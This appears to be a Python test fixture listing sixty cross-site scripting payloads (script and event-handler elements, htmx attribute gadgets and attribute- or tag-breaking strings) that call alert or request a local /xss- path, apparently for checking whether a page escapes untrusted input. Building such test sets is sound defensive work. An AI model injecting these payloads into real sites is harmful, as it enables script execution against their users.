"""Sixty texts that would run, or ask for something, in a page that writes them as they are.

Each calls ``alert`` or asks for an address below ``/xss-``: the dialog and the request are what is looked for.
"""

_ASK = "/xss-asked"

_ELEMENTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src={_ASK}></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data='javascript:alert(1)'></object>",
    f"<object data={_ASK}></object>",
    f"<embed src={_ASK}>",
    f"<link rel=stylesheet href={_ASK}>",
    f"<img src={_ASK}>",
    f"<img srcset='{_ASK} 1x'>",
    f"<video poster={_ASK}></video>",
    f"<style>@import '{_ASK}';</style>",
    f"<p style=\"background:url('{_ASK}')\">x</p>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<base href={_ASK}/>",
    f"<table background={_ASK}><tr><td>x</table>",
    f"<svg><image href={_ASK} /></svg>",
    f"<svg><use href='{_ASK}#x' /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button></form>",
    f"<script src={_ASK}></script>",
    f"<script type=module src={_ASK}></script>",
    f"<link rel=modulepreload href={_ASK}>",
    f"<link rel=prefetch href={_ASK}>",
]
_GADGETS = [
    f"<i hx-get={_ASK} hx-trigger=load></i>",
    f"<i hx-post={_ASK} hx-trigger=load></i>",
    f"<i hx-put={_ASK} hx-trigger=load></i>",
    f"<i hx-delete={_ASK} hx-trigger=load></i>",
    f"<i data-hx-get={_ASK} data-hx-trigger=load></i>",
    f"<i hx-get={_ASK} hx-trigger=revealed></i>",
    f"<i hx-get={_ASK} hx-trigger='every 1s'></i>",
    f"<i hx-get={_ASK} hx-trigger=intersect></i>",
    "<i hx-on:load=alert(1) hx-on:htmx:load=alert(1)></i>",
    "<i hx-on::load='alert(1)'></i>",
    f"<i hx-get={_ASK} hx-trigger=load hx-vals='js:{{a:alert(1)}}'></i>",
    f"<i hx-get={_ASK} hx-trigger='load[alert(1)]'></i>",
    f"<i hx-boost=true><a href={_ASK} autofocus>x</a></i>",
    f"<i hx-get={_ASK} hx-trigger=load hx-swap=outerHTML hx-target=body></i>",
    f"<form action={_ASK} hx-post={_ASK} hx-trigger=load><input name=a></form>",
    f"<i hx-action={_ASK} hx-method=get hx-trigger=load></i>",
]
# out of an attribute, a script, a comment, an element that holds text only; last, for they swallow what follows
_BREAKING_OUT = [
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
]
PAYLOADS = (*_ELEMENTS, *_GADGETS, *_BREAKING_OUT)
EVERYTHING = " ".join((*_BREAKING_OUT, *_ELEMENTS, *_GADGETS))
